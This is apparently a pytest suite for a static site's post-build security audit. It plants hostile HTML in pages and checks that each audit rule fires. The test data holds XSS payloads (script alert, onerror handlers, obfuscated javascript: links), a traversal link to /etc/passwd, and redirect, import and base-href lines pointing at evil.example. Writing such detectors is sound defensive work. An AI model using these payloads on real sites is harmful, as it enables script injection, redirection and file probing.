"""The post-build audit (tracker/audit.py) on planted pages: each rule must fire, and a clean page must pass."""

from __future__ import annotations

import shutil

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tracker.audit import audit_page, audit_site, broken_links
from tracker.engine import theme_scripts

FILES = {"index.html", "projects/a/index.html", "assets/tracker.css"}
ALLOWED = {"assets/javascripts/bundle.js", "assets/tracker.js"}


def page(article: str = "", chrome: str = "") -> str:
    return (
        "<!doctype html><html><head><title>t</title>"
        '<script src="../../assets/javascripts/bundle.js"></script>'
        '<link rel="stylesheet" href="../../assets/tracker.css"></head><body>'
        '<form class="md-search__form" name="search"><input></form>'
        f"{chrome}<article class=\"md-content__inner\"><h1>A</h1>{article}</article>"
        '<script id="__config" type="application/json">{"base": "../.."}</script></body></html>'
    )


def audit(html: str) -> list[str]:
    return audit_page(html, "projects/a/index.html", ALLOWED, FILES)


def test_clean_page_passes():
    assert audit(page('<p><a href="../../">home</a> <a href="https://example.com/x?a=1&amp;b=2">src</a>'
                      '<a href="#source-1">[1]</a> <a href="mailto:a@example.com">m</a></p>')) == []


@pytest.mark.parametrize(
    ("article", "finding"),
    [
        ("<script>alert(1)</script>", "script inside the page content"),
        ('<script src="../../assets/tracker.js"></script>', "script inside the page content"),
        ('<img src="x.png" onerror="alert(1)">', "<img> has event-handler attribute onerror"),
        ('<svg><rect onclick="x()"/></svg>', "<rect> has event-handler attribute onclick"),
        ('<a href="javascript:alert(1)">x</a>', "<a> href uses scheme 'javascript:'"),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', "<a> href uses scheme 'javascript:'"),
        ('<a href="java&#x73;cript:alert(1)">x</a>', "<a> href uses scheme 'javascript:'"),
        ('<img src="data:image/svg+xml,abc">', "<img> src uses scheme 'data:'"),
        ("<iframe></iframe>", "forbidden element <iframe>"),
        ("<object></object>", "forbidden element <object>"),
        ("<form></form>", "forbidden element <form>"),
        ('<form class="md-search__form"></form>', "forbidden element <form>"),  # theme class, wrong place
        ("<p>evil\u202etxt.exe</p>", "bidi override character in text"),
        ('<a href="../b/">b</a>', "broken link: ../b/"),
        ('<a href="../../../../etc/passwd">x</a>', "link leaves the site: ../../../../etc/passwd"),
    ],
)
def test_each_rule_fires(article, finding):
    assert finding in audit(page(article))


@pytest.mark.parametrize(
    ("chrome", "finding"),
    [  # what a value from site.yaml could inject into the theme's part of every page
        ('<link rel="canonical" href="https://x/"><script>alert(1)</script>', "inline script that is not the theme's own"),
        ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta http-equiv=refresh>: a redirect"),
        ('<meta http-equiv=" Refresh " content="0">', "<meta http-equiv=refresh>: a redirect"),
        ('<script type="application/json" id="other">{}</script>', "inline script that is not the theme's own"),
        ('<script type="module">import("https://evil.example/x.js")</script>', "inline script that is not the theme's own"),
    ],
)
def test_the_themes_part_of_the_page_is_audited_too(chrome, finding):
    assert finding in audit(page(chrome=chrome))


def test_theme_inline_scripts_are_exactly_the_themes(bundled_site):
    """THEME_INLINE_SCRIPTS is re-derived from a real build: every inline script the theme writes is allowed,
    and the allowlist holds nothing the theme does not write (a theme upgrade fails here, deliberately)."""
    from selectolax.lexbor import LexborHTMLParser

    from tracker.audit import THEME_INLINE_SCRIPTS, inline_script_digest

    seen = set()
    for html in bundled_site.rglob("*.html"):
        for node in LexborHTMLParser(html.read_text()).css("script"):
            if "src" not in node.attributes and node.attributes.get("type") != "application/json":
                seen.add(inline_script_digest(node.text() or ""))
    assert seen == THEME_INLINE_SCRIPTS


def test_script_in_chrome_must_be_the_themes():
    assert audit(page(chrome='<script src="https://cdn.example.com/x.js"></script>')) == [
        "script not shipped by the theme: https://cdn.example.com/x.js"
    ]
    assert audit(page(chrome="<base href='https://evil.example/'>")) == ["forbidden element <base>"]


def test_audit_site_reports_every_page_with_its_path(tmp_path):
    (tmp_path / "projects/a").mkdir(parents=True)
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets/tracker.css").write_text("")
    bundle = sorted(s for s in theme_scripts() if "bundle" in s)[0]  # the theme's real (hashed) file name
    (tmp_path / "index.html").write_text(page('<a href="projects/a/">a</a>').replace("../../", "")
                                         .replace("assets/javascripts/bundle.js", bundle))
    (tmp_path / "projects/a/index.html").write_text(page('<img src=x onerror="alert(1)">')
                                                    .replace("assets/javascripts/bundle.js", bundle))
    assert audit_site(tmp_path) == ["projects/a/index.html: <img> has event-handler attribute onerror"]


def test_live_audit_checks_pages_while_engine_builds(tmp_path, monkeypatch):
    """The real pipeline's path: MkDocs hands each page to the live worker through the hook."""
    from tracker.audit import Live
    from tracker.site import ROOT, engine_build

    docs = tmp_path / "docs"
    shutil.copytree(ROOT / "docs", docs)
    for name in ("index.md", "projects/index.md", "explore.md", "timeline/index.md", "changes/index.md", "summary.md", "browse/index.md", "data.md",
                 "methodology.md", "contributing/record-format.md"):
        (docs / name).parent.mkdir(parents=True, exist_ok=True)
        (docs / name).write_text("# Page\n\nText.\n")
    (docs / "data.md").write_text('# Data\n\n<iframe src="https://example.com/"></iframe>\n')
    live = Live()
    try:
        engine_build(docs, tmp_path / "site", ROOT / "mkdocs.yml", stream=True)
        results = live.results()
    finally:
        live.close()
    assert "data/index.html" in results and results["data/index.html"][1] == ["forbidden element <iframe>"]

    class Done:  # the results above, handed to audit_site as the build does
        def results(self):
            return results

    assert audit_site(tmp_path / "site", Done()) == ["data/index.html: forbidden element <iframe>"]
    # and the live results were really used: only pages MkDocs built without the hook (404.html) are parsed again
    import tracker.audit as audit_mod

    parsed = []
    real = audit_mod.page_findings
    monkeypatch.setattr(audit_mod, "page_findings", lambda text, allowed: parsed.append(1) or real(text, allowed))
    monkeypatch.setattr(audit_mod.parallel, "workers", lambda: 1)  # count the calls in this process
    audit_site(tmp_path / "site", Done())
    html_files = len(list((tmp_path / "site").rglob("*.html")))
    assert html_files == len(results) + 1 and len(parsed) == 1


def test_a_page_changed_after_its_live_audit_is_parsed_again(tmp_path):
    """A live result counts only for the exact text it parsed: a file that differs is audited from disk."""
    from tracker.audit import _digest

    bundle = sorted(s for s in theme_scripts() if "bundle" in s)[0]
    clean = page().replace("assets/javascripts/bundle.js", bundle).replace("../../", "")
    (tmp_path / "index.html").write_text(clean.replace("<h1>A</h1>", "<h1>A</h1><iframe></iframe>"))
    (tmp_path / "assets").mkdir()
    (tmp_path / "assets/tracker.css").write_text("")

    class Stale:  # claims the page was clean, for a text that is not the one on disk
        def results(self):
            return {"index.html": (_digest(clean.encode()), [], set())}

    assert audit_site(tmp_path, Stale()) == ["index.html: forbidden element <iframe>"]


@settings(max_examples=3000, deadline=None)
@given(rel=st.sampled_from(["index.html", "a/index.html", "a/b/index.html", "a/b/c/index.html"]),
       parts=st.lists(st.sampled_from(["..", ".", "", "a", "b", "c.png", "...", "x?q", "y#f"]), min_size=1, max_size=6))
def test_links_resolve_as_a_browser_resolves_them(rel, parts):
    """broken_links shortens ../ against the page's folder before resolving (so one project page's
    answer serves all): it must agree with resolving each link in full."""
    import posixpath

    files = {"index.html", "a/index.html", "a/b/index.html", "a/b/c.png", "a/a/index.html", "b/index.html"}
    href = "/".join(parts)
    path = href.split("#", 1)[0].split("?", 1)[0]
    want = []
    if path and not path.startswith("/"):
        target = posixpath.normpath(posixpath.join(posixpath.dirname(rel), path))
        if target == ".." or target.startswith("../"):
            want = [f"link leaves the site: {href}"]
        elif target not in files and f"{target}/index.html".lstrip("/") not in files and target != ".":
            want = [f"broken link: {href}"]
    assert broken_links(rel, {href}, files) == want
